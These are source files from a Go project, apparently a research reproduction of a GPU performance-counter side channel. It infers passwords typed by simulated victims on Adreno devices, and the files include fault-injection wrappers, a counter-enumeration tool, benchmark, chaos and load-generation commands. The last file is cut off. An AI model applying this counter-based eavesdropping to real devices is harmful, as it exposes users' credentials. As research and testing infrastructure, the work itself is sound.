package gpuleak

import (
	"gpuleak/internal/attack"
	"gpuleak/internal/fault"
)

// Fault injection & degraded mode. The fault plane wraps a device file
// in a seeded schedule of the failures a real KGSL consumer sees under
// contention (EBUSY bursts, counter revocation, missed polling ticks,
// wrapped 32-bit reads, transient closures); the attack pipeline absorbs
// them with a sim-time RetryPolicy and reports what it survived in
// Result.Degraded / Result.Recovery. Everything is deterministic: a
// fixed (profile, seed) replays the identical fault schedule, and the
// zero profile is a byte-identical passthrough.

// Fault-plane and retry types, re-exported from the internal layers.
type (
	// DeviceFile is the device surface the attack samples through: an
	// open *KGSLFile satisfies it, and so does the *FaultPlane returned
	// by InjectFaults, so the two interchange anywhere a device file is
	// expected.
	DeviceFile = attack.DeviceFile
	// FaultProfile is a named set of fault probabilities; see
	// FaultProfiles for the predefined escalation (none, mild, moderate,
	// severe).
	FaultProfile = fault.Profile
	// FaultPlane is a device file wrapped in a seeded fault schedule; its
	// Stats field counts what was actually injected.
	FaultPlane = fault.File
	// InjectedFaultStats counts injected faults by class.
	InjectedFaultStats = fault.InjectedStats
	// RetryPolicy bounds how hard the sampler fights transient device
	// errors; the zero value disables retrying (any device error is
	// fatal). Set it on Attack.Retry.
	RetryPolicy = attack.RetryPolicy
	// RecoveryStats counts the recovery work one collection performed;
	// see Result.Recovery.
	RecoveryStats = attack.CollectStats
	// SampleError is the typed device-failure error the sampler returns;
	// classify it with errors.As plus SampleError.Retryable, never by
	// string matching.
	SampleError = attack.SampleError
)

// FaultProfiles returns the predefined fault profiles in severity order:
// none (a pure passthrough), mild, moderate, severe, starve. The default
// RetryPolicy absorbs all of them — accuracy may degrade, availability
// never does.
func FaultProfiles() []FaultProfile { return fault.Profiles() }

// FaultProfileByName resolves a predefined profile ("none", "mild",
// "moderate", "severe").
func FaultProfileByName(name string) (FaultProfile, bool) { return fault.ByName(name) }

// InjectFaults wraps a device file in a fault plane driven by the
// profile and seed. Pass the result anywhere a DeviceFile is accepted —
// Attack.Eavesdrop, OpenSampler — and arm Attack.Retry (for example with
// DefaultRetryPolicy) so injected faults are recovered rather than
// fatal. For a fixed (profile, seed) the schedule replays
// bit-identically.
func InjectFaults(f DeviceFile, p FaultProfile, seed int64) *FaultPlane {
	return fault.NewFile(f, p, seed)
}

// DefaultRetryPolicy returns the retry policy the serving layer and the
// chaos experiments use: 4 attempts per operation with 250 µs → 2 ms
// sim-time exponential backoff, re-reservation after revocations, up to
// 32 consecutive bad ticks before giving up.
func DefaultRetryPolicy() RetryPolicy { return attack.DefaultRetryPolicy() }

// IsRetryable reports whether a device error is in the transient family
// a RetryPolicy recovers from (EBUSY, EINVAL, lost reservation,
// transient closure, wrapped read). Permission errors from an active
// mitigation are not retryable.
func IsRetryable(err error) bool { return attack.Retryable(err) }
