package gpuleak

import (
	"context"

	"gpuleak/internal/attack"
	"gpuleak/internal/exp"
)

// This file is the context-aware face of the package. Every entry point
// here honors cancellation cooperatively — the offline phase stops at
// per-(key, repeat) task boundaries, the online phase at sampler ticks —
// and a run that completes is byte-identical to its context-free
// counterpart: the context is a control channel, never an input to the
// simulation. The legacy signatures (Train, TrainWith, RunExperiment,
// NewSamplerOn) remain as context.Background wrappers.

// TrainContext runs the offline phase with cancellation and functional
// options:
//
//	model, err := gpuleak.TrainContext(ctx, cfg,
//		gpuleak.WithWorkers(8), gpuleak.WithObs(tracer))
//
// Cancellation is honored between collection tasks (one per key repeat),
// so a canceled training returns ctx's error promptly instead of a
// partial model.
func TrainContext(ctx context.Context, cfg VictimConfig, opts ...Option) (*Model, error) {
	return attack.CollectContext(ctx, cfg, buildOptions(opts).collect())
}

// OpenSampler reserves the Table-1 counters on a device file and returns
// the sampler, like NewSamplerOn but configurable with WithInterval and
// WithObs. Collect the trace with Sampler.CollectContext to sample under
// a deadline.
func OpenSampler(f *KGSLFile, opts ...Option) (*attack.Sampler, error) {
	o := buildOptions(opts)
	s, err := attack.NewSampler(f, o.samplerInterval())
	if err != nil {
		return nil, err
	}
	s.Obs = o.obs
	return s, nil
}

// RunExperimentContext executes one experiment by figure/table ID with
// cancellation (trial-granular: batches stop issuing new eavesdrops and
// in-flight ones abort at the next sampler tick) and functional options
// (WithWorkers, WithObs). Unknown IDs fail with an error matching
// ErrUnknownExperiment.
func RunExperimentContext(ctx context.Context, id string, quick bool, seed int64, opts ...Option) (*exp.Result, error) {
	e, ok := exp.ByID(id)
	if !ok {
		return nil, &UnknownExperimentError{ID: id}
	}
	o := buildOptions(opts)
	return e.Run(exp.Options{
		Quick: quick, Seed: seed,
		Workers: o.workers, Obs: o.obs, Ctx: ctx,
	})
}
