// Command counters enumerates the simulated Adreno GPU performance
// counters the way the paper's §3.3 discovery step does (via the
// GL_AMD_performance_monitor-style string identifiers), and marks the
// Table-1 counters the attack selects.
package main

import (
	"flag"
	"fmt"
	"os"

	"gpuleak/internal/adreno"
)

func main() {
	onlySelected := flag.Bool("selected", false, "print only the Table-1 counters the attack uses")
	flag.Parse()

	selected := map[adreno.CounterKey]bool{}
	for _, k := range adreno.Selected {
		selected[k] = true
	}

	if *onlySelected {
		fmt.Println("Table-1 counters selected for eavesdropping:")
		for _, k := range adreno.Selected {
			s, _ := adreno.CounterString(k)
			fmt.Printf("  group %-4s (0x%02X)  countable %2d  %s\n",
				adreno.GroupName(k.Group), k.Group, k.Countable, s)
		}
		return
	}

	fmt.Println("Adreno performance counter enumeration (GetPerfMonitorCounterStringAMD):")
	total := 0
	for _, g := range adreno.Groups() {
		fmt.Printf("group %s (0x%02X):\n", adreno.GroupName(g), g)
		for _, c := range adreno.CountersInGroup(g) {
			k := adreno.CounterKey{Group: g, Countable: c}
			s, ok := adreno.CounterString(k)
			if !ok {
				continue
			}
			mark := " "
			if selected[k] {
				mark = "*"
			}
			fmt.Printf("  %s [%2d] %s\n", mark, c, s)
			total++
		}
	}
	fmt.Printf("\n%d counters; * = overdraw-related counters used by the attack (Table 1)\n", total)
	if len(adreno.SelectOverdrawCounters()) != adreno.NumSelected {
		fmt.Fprintln(os.Stderr, "warning: discovery did not find all Table-1 counters")
		os.Exit(1)
	}
}
