// Command benchcmp compares two gpuleak-bench/v1 reports (the -json
// output of benchpaper) and flags wall-clock regressions beyond a
// tolerance factor. CI runs it warn-only against the committed
// BENCH_baseline.json so the perf trajectory is visible on every run
// without shared-runner noise failing builds.
//
// Usage:
//
//	benchcmp BENCH_baseline.json bench-new.json
//	benchcmp -max-regress 2.0 old.json new.json
//	benchcmp -metrics-only -skip 'fig25/*' BENCH_baseline.json bench-new.json
//
// -metrics-only splits the determinism gate from the perf watch: it
// ignores wall time entirely (shared CI runners make timings noisy) and
// fails only on new experiment failures or headline-metric drift, which
// with fixed seed+quick settings are deterministic and therefore
// blocking. CI runs -metrics-only as a gate and the plain wall-clock
// comparison warn-only.
//
// -skip excludes experiment/metric pairs (comma-separated path.Match
// patterns) from the metrics diff. The one legitimate use is fig25, which
// measures the attacker's real classification wall time by design
// (simtime-waived) — its ms metrics drift run to run and belong to the
// warn-only perf watch, not the determinism gate.
//
// Exit status: 0 when the new report is within tolerance, 1 on a
// wall-clock regression beyond -max-regress (unless -metrics-only), new
// experiment failures, or metric drift under -metrics/-metrics-only;
// 2 on usage or load errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path"
	"sort"
	"strings"
)

// report mirrors the benchpaper -json schema; unknown fields are
// ignored so the two commands can evolve independently as long as the
// schema tag matches.
type report struct {
	Schema      string             `json:"schema"`
	GoVersion   string             `json:"go_version"`
	Quick       bool               `json:"quick"`
	Seed        int64              `json:"seed"`
	WallSeconds float64            `json:"wall_seconds"`
	Failures    int                `json:"failures"`
	Experiments []experimentReport `json:"experiments"`
}

type experimentReport struct {
	ID      string             `json:"id"`
	Seconds float64            `json:"seconds"`
	Error   string             `json:"error,omitempty"`
	Metrics map[string]float64 `json:"metrics,omitempty"`
}

func main() {
	maxRegress := flag.Float64("max-regress", 1.5, "fail when new wall time exceeds baseline by this factor")
	checkMetrics := flag.Bool("metrics", false, "also diff headline metrics (same seed+quick runs are deterministic, so drift means a behavior change)")
	metricsOnly := flag.Bool("metrics-only", false, "gate on failures and metric drift only; ignore wall time (implies -metrics)")
	skip := flag.String("skip", "", "comma-separated experiment/metric patterns excluded from the metrics diff (path.Match syntax)")
	flag.Usage = func() {
		fmt.Fprintf(os.Stderr, "usage: benchcmp [flags] baseline.json new.json\n")
		flag.PrintDefaults()
	}
	flag.Parse()
	if flag.NArg() != 2 {
		flag.Usage()
		os.Exit(2)
	}

	old, err := load(flag.Arg(0))
	if err != nil {
		fatal(err)
	}
	cur, err := load(flag.Arg(1))
	if err != nil {
		fatal(err)
	}

	if old.Quick != cur.Quick || old.Seed != cur.Seed {
		fmt.Printf("note: configs differ (quick %v/%v, seed %d/%d); timings are not directly comparable\n",
			old.Quick, cur.Quick, old.Seed, cur.Seed)
	}

	ratio := 0.0
	if old.WallSeconds > 0 {
		ratio = cur.WallSeconds / old.WallSeconds
	}
	fmt.Printf("wall: %.2fs -> %.2fs (%.2fx baseline, go %s -> %s)\n",
		old.WallSeconds, cur.WallSeconds, ratio, old.GoVersion, cur.GoVersion)

	oldExp := map[string]experimentReport{}
	for _, e := range old.Experiments {
		oldExp[e.ID] = e
	}
	for _, e := range cur.Experiments {
		prev, ok := oldExp[e.ID]
		if !ok {
			fmt.Printf("  %-22s new experiment (%.2fs)\n", e.ID, e.Seconds)
			continue
		}
		r := 0.0
		if prev.Seconds > 0 {
			r = e.Seconds / prev.Seconds
		}
		fmt.Printf("  %-22s %6.2fs -> %6.2fs (%.2fx)\n", e.ID, prev.Seconds, e.Seconds, r)
	}

	failed := false
	if cur.Failures > old.Failures {
		fmt.Printf("FAIL: %d experiment failures (baseline had %d)\n", cur.Failures, old.Failures)
		failed = true
	}
	if !*metricsOnly && old.WallSeconds > 0 && ratio > *maxRegress {
		fmt.Printf("FAIL: wall time %.2fx baseline exceeds -max-regress %.2f\n", ratio, *maxRegress)
		failed = true
	}

	if *checkMetrics || *metricsOnly {
		failed = diffMetrics(old, cur, splitPatterns(*skip)) || failed
	}

	if failed {
		os.Exit(1)
	}
	fmt.Println("within tolerance")
}

// splitPatterns parses the -skip flag into its pattern list.
func splitPatterns(s string) []string {
	var out []string
	for _, p := range strings.Split(s, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

// skipped reports whether an experiment/metric pair matches any -skip
// pattern. A malformed pattern matches nothing (path.Match errors are
// treated as no-match, not fatal).
func skipped(patterns []string, expID, metric string) bool {
	name := expID + "/" + metric
	for _, p := range patterns {
		if ok, err := path.Match(p, name); err == nil && ok {
			return true
		}
	}
	return false
}

// diffMetrics reports every headline metric whose value changed between
// the runs. With identical seed/quick settings the suite is
// deterministic, so any drift is a behavior change worth reading.
func diffMetrics(old, cur *report, skip []string) bool {
	oldExp := map[string]experimentReport{}
	for _, e := range old.Experiments {
		oldExp[e.ID] = e
	}
	drift := false
	for _, e := range cur.Experiments {
		prev, ok := oldExp[e.ID]
		if !ok {
			continue
		}
		keys := make([]string, 0, len(e.Metrics))
		for k := range e.Metrics {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			pv, had := prev.Metrics[k]
			if !had {
				continue
			}
			if skipped(skip, e.ID, k) {
				continue
			}
			if pv != e.Metrics[k] {
				fmt.Printf("METRIC DRIFT: %s/%s %.6f -> %.6f\n", e.ID, k, pv, e.Metrics[k])
				drift = true
			}
		}
	}
	return drift
}

func load(path string) (*report, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var rep report
	if err := json.Unmarshal(b, &rep); err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	if rep.Schema != "gpuleak-bench/v1" {
		return nil, fmt.Errorf("%s: unsupported schema %q", path, rep.Schema)
	}
	return &rep, nil
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "benchcmp:", err)
	os.Exit(2)
}
