// Command chaos runs recovery-rate experiments across fault-injection
// profiles and emits a machine-readable gpuleak-chaos/v1 JSON report:
// for each profile, the attack's accuracy under that fault schedule plus
// the injection and recovery accounting that explains it.
//
//	chaos -profiles none,mild,moderate,severe,starve -trials 10 -seed 1 > chaos.json
//
// Reports are bit-identical for a fixed seed at any -workers value —
// every trial's victim seed, credential and fault schedule derive from
// the trial index, never from scheduling.
//
// With -check, chaos additionally asserts the fault plane's contracts
// and exits non-zero on violation: the "none" profile must be
// byte-identical to the raw library path, no trial may fail fatally
// (faults cost accuracy, never availability), and every faulty profile
// must actually inject and recover. CI runs this as the chaos-smoke gate.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strings"

	"gpuleak/internal/exp"
	"gpuleak/internal/fault"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("chaos: ")

	profiles := flag.String("profiles", strings.Join(fault.Names(), ","),
		"comma-separated fault profiles to run (subset of "+strings.Join(fault.Names(), ",")+")")
	trials := flag.Int("trials", 10, "victim sessions per profile")
	textLen := flag.Int("len", 8, "credential length")
	seed := flag.Int64("seed", 1, "base seed for texts, victim sessions and fault schedules")
	workers := flag.Int("workers", 0, "trial worker count (0 = one per CPU; never changes the report)")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	check := flag.Bool("check", false, "assert fault-plane contracts (baseline identity, zero fatals, recovery exercised)")
	flag.Parse()

	var ps []fault.Profile
	for _, name := range strings.Split(*profiles, ",") {
		name = strings.TrimSpace(name)
		if name == "" {
			continue
		}
		p, ok := fault.ByName(name)
		if !ok {
			log.Fatalf("unknown fault profile %q (have %s)", name, strings.Join(fault.Names(), ","))
		}
		ps = append(ps, p)
	}
	if len(ps) == 0 {
		log.Fatal("no fault profiles selected")
	}

	rep, err := exp.RunChaosProfiles(exp.Options{Seed: *seed, Workers: *workers}, ps, *trials, *textLen)
	if err != nil {
		log.Fatal(err)
	}

	w := io.Writer(os.Stdout)
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				log.Fatal(err)
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		log.Fatal(err)
	}
	for _, pr := range rep.Profiles {
		log.Printf("%-9s rate=%.3f text_acc=%.1f%% char_acc=%.1f%% degraded=%d/%d fatal=%d injected=%d recovered(retries=%d rereserve=%d dropped=%d)",
			pr.Profile, pr.Rate, 100*pr.TextAccuracy, 100*pr.CharAccuracy,
			pr.Degraded, pr.Trials, pr.Fatal, pr.Injected.Total(),
			pr.Recovery.Retries, pr.Recovery.ReReservations, pr.Recovery.DroppedTicks)
	}

	if *check {
		if err := checkReport(rep); err != nil {
			log.Fatalf("check failed: %v", err)
		}
		log.Printf("check: ok")
	}
}

// checkReport asserts the fault plane's contracts on a finished report.
func checkReport(rep *exp.ChaosReport) error {
	sawNone := false
	for _, pr := range rep.Profiles {
		if pr.Rate == 0 {
			sawNone = true
			if pr.Injected.Total() != 0 || pr.Degraded != 0 {
				return fmt.Errorf("profile %q injected %d faults / %d degraded trials; want a pure passthrough",
					pr.Profile, pr.Injected.Total(), pr.Degraded)
			}
			continue
		}
		if pr.Fatal != 0 {
			return fmt.Errorf("profile %q: %d/%d trials failed fatally; the retry policy must recover every predefined profile",
				pr.Profile, pr.Fatal, pr.Trials)
		}
		if pr.Injected.Total() == 0 {
			return fmt.Errorf("profile %q (rate %.3f) injected nothing; the schedule is not exercising the plane",
				pr.Profile, pr.Rate)
		}
		recovered := pr.Recovery.Retries + pr.Recovery.ReReservations +
			pr.Recovery.DroppedTicks + pr.Recovery.WrappedRetries
		if recovered == 0 {
			return fmt.Errorf("profile %q injected %d faults but the sampler recorded no recovery work",
				pr.Profile, pr.Injected.Total())
		}
	}
	if sawNone && !rep.BaselineMatch {
		return fmt.Errorf("baseline mismatch: the none profile is not byte-identical to the raw library path")
	}
	return nil
}
