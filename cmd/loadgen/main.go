// Command loadgen drives configurable open-loop load against a gpuleakd
// instance and emits a machine-readable gpuleak-load/v1 JSON report for
// the CI perf trajectory (the serving-side sibling of gpuleak-bench/v1).
//
// Open-loop means requests are launched on a fixed schedule regardless of
// completions — the honest way to measure a backpressuring server: when
// the shard queues fill, the 429s show up in the report instead of the
// generator politely slowing down.
//
//	loadgen -addr http://127.0.0.1:8080 -rate 20 -duration 5s > load.json
//
// With -smoke, loadgen instead performs the CI liveness check: wait for
// /healthz, run one eavesdrop, verify the inference round-trips, exit
// non-zero on any failure.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"sort"
	"sync"
	"time"
)

type eavesdropRequest struct {
	Device       string `json:"device,omitempty"`
	App          string `json:"app,omitempty"`
	Keyboard     string `json:"keyboard,omitempty"`
	Text         string `json:"text"`
	Seed         int64  `json:"seed"`
	TimeoutMS    int64  `json:"timeout_ms,omitempty"`
	FaultProfile string `json:"fault_profile,omitempty"`
}

type eavesdropResponse struct {
	Text     string `json:"text"`
	Truth    string `json:"truth"`
	Model    string `json:"model"`
	Degraded bool   `json:"degraded"`
}

// report is the gpuleak-load/v1 schema.
type report struct {
	Schema    string  `json:"schema"`
	Target    string  `json:"target"`
	RateRPS   float64 `json:"rate_rps"`
	DurationS float64 `json:"duration_s"`
	WallS     float64 `json:"wall_s"`

	Sent     int `json:"sent"`
	OK       int `json:"ok"`
	Rejected int `json:"rejected"` // 429: shard queue full (backpressure)
	Draining int `json:"draining"` // 503: server shutting down / sampler gave up
	Errors   int `json:"errors"`   // transport errors + other statuses
	Correct  int `json:"correct"`  // inferences matching ground truth
	Degraded int `json:"degraded"` // 200s that recovered from injected faults

	LatencyMS latency        `json:"latency_ms"`
	Statuses  map[string]int `json:"statuses"`
}

type latency struct {
	Mean float64 `json:"mean"`
	P50  float64 `json:"p50"`
	P90  float64 `json:"p90"`
	P99  float64 `json:"p99"`
	Max  float64 `json:"max"`
}

type outcome struct {
	status   int // 0 = transport error
	correct  bool
	degraded bool
	lat      time.Duration
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("loadgen: ")

	addr := flag.String("addr", "http://127.0.0.1:8080", "gpuleakd base URL")
	rate := flag.Float64("rate", 10, "open-loop request rate (req/s)")
	duration := flag.Duration("duration", 5*time.Second, "how long to generate load")
	text := flag.String("text", "hunter2pass", "credential each simulated victim types")
	seed := flag.Int64("seed", 1, "base seed; request i uses seed+i")
	device := flag.String("device", "", "victim device (server default when empty)")
	app := flag.String("app", "", "target app (server default when empty)")
	kb := flag.String("keyboard", "", "keyboard (server default when empty)")
	faults := flag.String("faults", "", "ask the server to inject device faults from this profile (none,mild,moderate,severe)")
	reqTimeout := flag.Duration("timeout", 60*time.Second, "per-request client timeout")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	smoke := flag.Bool("smoke", false, "liveness check: wait for /healthz, one eavesdrop, exit")
	wait := flag.Duration("healthz-wait", 30*time.Second, "how long to poll /healthz before giving up")
	flag.Parse()

	client := &http.Client{Timeout: *reqTimeout}
	if *smoke {
		if err := runSmoke(client, *addr, *text, *seed, *wait); err != nil {
			log.Fatal(err)
		}
		log.Printf("smoke: ok")
		return
	}

	if err := waitHealthy(client, *addr, *wait); err != nil {
		log.Fatal(err)
	}
	rep := runLoad(client, *addr, *rate, *duration, *text, *seed, *device, *app, *kb, *faults)

	w := io.Writer(os.Stdout)
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				log.Fatal(err)
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		log.Fatal(err)
	}
	log.Printf("sent=%d ok=%d rejected=%d errors=%d correct=%d degraded=%d p50=%.0fms",
		rep.Sent, rep.OK, rep.Rejected, rep.Errors, rep.Correct, rep.Degraded, rep.LatencyMS.P50)
}

// runLoad fires requests open-loop at the target rate and aggregates the
// outcomes into a report.
func runLoad(client *http.Client, addr string, rate float64, duration time.Duration,
	text string, seed int64, device, app, kb, faults string) *report {

	if rate <= 0 {
		rate = 1
	}
	interval := time.Duration(float64(time.Second) / rate)
	n := int(float64(duration) / float64(interval))
	if n < 1 {
		n = 1
	}

	var (
		mu       sync.Mutex
		outcomes []outcome
		wg       sync.WaitGroup
	)
	start := time.Now()
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for i := 0; i < n; i++ {
		if i > 0 {
			<-tick.C
		}
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			o := oneRequest(client, addr, eavesdropRequest{
				Device: device, App: app, Keyboard: kb,
				Text: text, Seed: seed + int64(i),
				FaultProfile: faults,
			})
			mu.Lock()
			outcomes = append(outcomes, o)
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	wall := time.Since(start)

	rep := &report{
		Schema:    "gpuleak-load/v1",
		Target:    addr,
		RateRPS:   rate,
		DurationS: duration.Seconds(),
		WallS:     wall.Seconds(),
		Statuses:  map[string]int{},
	}
	var lats []float64
	for _, o := range outcomes {
		rep.Sent++
		rep.Statuses[fmt.Sprintf("%d", o.status)]++
		switch {
		case o.status == http.StatusOK:
			rep.OK++
			lats = append(lats, float64(o.lat)/float64(time.Millisecond))
			if o.correct {
				rep.Correct++
			}
			if o.degraded {
				rep.Degraded++
			}
		case o.status == http.StatusTooManyRequests:
			rep.Rejected++
		case o.status == http.StatusServiceUnavailable:
			rep.Draining++
		default:
			rep.Errors++
		}
	}
	rep.LatencyMS = summarize(lats)
	return rep
}

func oneRequest(client *http.Client, addr string, req eavesdropRequest) outcome {
	body, err := json.Marshal(req)
	if err != nil {
		return outcome{}
	}
	start := time.Now()
	resp, err := client.Post(addr+"/v1/eavesdrop", "application/json", bytes.NewReader(body))
	if err != nil {
		return outcome{}
	}
	defer resp.Body.Close()
	var er eavesdropResponse
	if err := json.NewDecoder(resp.Body).Decode(&er); err != nil && resp.StatusCode == http.StatusOK {
		return outcome{status: -1, lat: time.Since(start)}
	}
	return outcome{
		status:   resp.StatusCode,
		correct:  er.Text != "" && er.Text == er.Truth,
		degraded: er.Degraded,
		lat:      time.Since(start),
	}
}

func summarize(lats []float64) latency {
	if len(lats) == 0 {
		return latency{}
	}
	sort.Float64s(lats)
	var sum float64
	for _, l := range lats {
		sum += l
	}
	pct := func(p float64) float64 {
		i := int(p * float64(len(lats)-1))
		return lats[i]
	}
	return latency{
		Mean: sum / float64(len(lats)),
		P50:  pct(0.50),
		P90:  pct(0.90),
		P99:  pct(0.99),
		Max:  lats[len(lats)-1],
	}
}

// waitHealthy polls /healthz until the server answers 200.
func waitHealthy(client *http.Client, addr string, wait time.Duration) error {
	deadline := time.Now().Add(wait)
	for {
		resp, err := client.Get(addr + "/healthz")
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
		}
		if time.Now().After(deadline) {
			if err != nil {
				return fmt.Errorf("server not healthy after %v: %v", wait, err)
			}
			return fmt.Errorf("server not healthy after %v", wait)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// runSmoke is the CI liveness check: healthz, then one eavesdrop whose
// inference must round-trip the typed credential.
func runSmoke(client *http.Client, addr, text string, seed int64, wait time.Duration) error {
	if err := waitHealthy(client, addr, wait); err != nil {
		return err
	}
	log.Printf("smoke: /healthz ok")
	o := oneRequest(client, addr, eavesdropRequest{Text: text, Seed: seed})
	if o.status != http.StatusOK {
		return fmt.Errorf("smoke: eavesdrop status %d", o.status)
	}
	if !o.correct {
		return fmt.Errorf("smoke: inference did not match ground truth")
	}
	log.Printf("smoke: /v1/eavesdrop ok (%.0f ms, inference matches truth)",
		float64(o.lat)/float64(time.Millisecond))
	return nil
}
