// Command loadgen drives configurable open-loop load against a gpuleakd
// instance and emits a machine-readable gpuleak-load/v1 JSON report for
// the CI perf trajectory (the serving-side sibling of gpuleak-bench/v1).
//
// Open-loop means requests are launched on a fixed schedule regardless of
// completions — the honest way to measure a backpressuring server: when
// the shard queues fill, the 429s show up in the report instead of the
// generator politely slowing down.
//
//	loadgen -addr http://127.0.0.1:8080 -rate 20 -duration 5s > load.json
//
// With -smoke, loadgen instead performs the CI liveness check: wait for
// /healthz, run one eavesdrop, verify the inference round-trips, exit
// non-zero on any failure.
//
// With -fleet, the load is streaming sessions instead of one-shot
// requests: each unit of work creates a session, attaches its SSE
// stream, replays the key/retract frames, and checks the closing result
// against ground truth. The report gains sessions/frames/failovers
// counters (same gpuleak-load/v1 schema, additive fields).
//
// With -fleet-smoke, loadgen performs the fleet CI gate end-to-end: one
// paced streaming session through the router, SIGKILL the replica that
// owns it mid-stream (found via the X-Gpuleak-Backend header and the
// -replica-pids map), and assert the router fails over — the stream must
// finish with a result matching ground truth and the frame replay must
// reconstruct it exactly.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net/http"
	"os"
	"sort"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"gpuleak/internal/obs"
)

// traceparentHeader mirrors serve.TraceparentHeader: loadgen mints the
// trace at the edge (from the request seed, the same derivation every
// hop uses) so the router and replica spans land under the client's
// trace instead of one minted mid-fleet.
const traceparentHeader = "traceparent"

type eavesdropRequest struct {
	Device       string `json:"device,omitempty"`
	App          string `json:"app,omitempty"`
	Keyboard     string `json:"keyboard,omitempty"`
	Text         string `json:"text"`
	Seed         int64  `json:"seed"`
	TimeoutMS    int64  `json:"timeout_ms,omitempty"`
	FaultProfile string `json:"fault_profile,omitempty"`
	PaceMS       int64  `json:"pace_ms,omitempty"`
}

type eavesdropResponse struct {
	Text     string `json:"text"`
	Truth    string `json:"truth"`
	Model    string `json:"model"`
	Degraded bool   `json:"degraded"`
}

// report is the gpuleak-load/v1 schema.
type report struct {
	Schema    string  `json:"schema"`
	Target    string  `json:"target"`
	RateRPS   float64 `json:"rate_rps"`
	DurationS float64 `json:"duration_s"`
	WallS     float64 `json:"wall_s"`

	Sent     int `json:"sent"`
	OK       int `json:"ok"`
	Rejected int `json:"rejected"` // 429: shard queue full (backpressure)
	Draining int `json:"draining"` // 503: server shutting down / sampler gave up
	Errors   int `json:"errors"`   // transport errors + other statuses
	Correct  int `json:"correct"`  // inferences matching ground truth
	Degraded int `json:"degraded"` // 200s that recovered from injected faults

	// Fleet-mode (streaming-session) counters; zero in one-shot runs.
	Sessions  int `json:"sessions,omitempty"`  // streams completed end-to-end
	Frames    int `json:"frames,omitempty"`    // key/retract/result frames received
	Failovers int `json:"failovers,omitempty"` // router failover splices observed

	LatencyMS latency        `json:"latency_ms"`
	Statuses  map[string]int `json:"statuses"`
}

type latency struct {
	Mean float64 `json:"mean"`
	P50  float64 `json:"p50"`
	P90  float64 `json:"p90"`
	P99  float64 `json:"p99"`
	Max  float64 `json:"max"`
}

type outcome struct {
	status   int // 0 = transport error
	correct  bool
	degraded bool
	lat      time.Duration
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("loadgen: ")

	addr := flag.String("addr", "http://127.0.0.1:8080", "gpuleakd base URL")
	rate := flag.Float64("rate", 10, "open-loop request rate (req/s)")
	duration := flag.Duration("duration", 5*time.Second, "how long to generate load")
	text := flag.String("text", "hunter2pass", "credential each simulated victim types")
	seed := flag.Int64("seed", 1, "base seed; request i uses seed+i")
	device := flag.String("device", "", "victim device (server default when empty)")
	app := flag.String("app", "", "target app (server default when empty)")
	kb := flag.String("keyboard", "", "keyboard (server default when empty)")
	faults := flag.String("faults", "", "ask the server to inject device faults from this profile (none,mild,moderate,severe,starve)")
	reqTimeout := flag.Duration("timeout", 60*time.Second, "per-request client timeout")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	smoke := flag.Bool("smoke", false, "liveness check: wait for /healthz, one eavesdrop, exit")
	wait := flag.Duration("healthz-wait", 30*time.Second, "how long to poll /healthz before giving up")
	fleet := flag.Bool("fleet", false, "drive streaming sessions instead of one-shot eavesdrops")
	fleetSmoke := flag.Bool("fleet-smoke", false, "fleet CI gate: stream one session, kill the owning replica mid-stream, assert failover")
	paceMS := flag.Int64("pace-ms", 0, "ask the server to pace stream frames (ms per frame; fleet modes)")
	replicaPids := flag.String("replica-pids", "", "file of 'url pid' lines mapping replicas to processes (fleet smoke)")
	killedFile := flag.String("killed-file", "", "write the killed replica's pid here (fleet smoke)")
	flag.Parse()

	client := &http.Client{Timeout: *reqTimeout}
	if *smoke {
		if err := runSmoke(client, *addr, *text, *seed, *wait); err != nil {
			log.Fatal(err)
		}
		log.Printf("smoke: ok")
		return
	}
	if *fleetSmoke {
		if err := runFleetSmoke(client, *addr, *text, *seed, *paceMS, *replicaPids, *killedFile, *wait); err != nil {
			log.Fatal(err)
		}
		log.Printf("fleet smoke: ok")
		return
	}

	if err := waitHealthy(client, *addr, *wait); err != nil {
		log.Fatal(err)
	}
	var rep *report
	if *fleet {
		rep = runFleetLoad(client, *addr, *rate, *duration, *text, *seed, *device, *app, *kb, *paceMS)
	} else {
		rep = runLoad(client, *addr, *rate, *duration, *text, *seed, *device, *app, *kb, *faults)
	}

	w := io.Writer(os.Stdout)
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				log.Fatal(err)
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		log.Fatal(err)
	}
	log.Printf("sent=%d ok=%d rejected=%d errors=%d correct=%d degraded=%d p50=%.0fms",
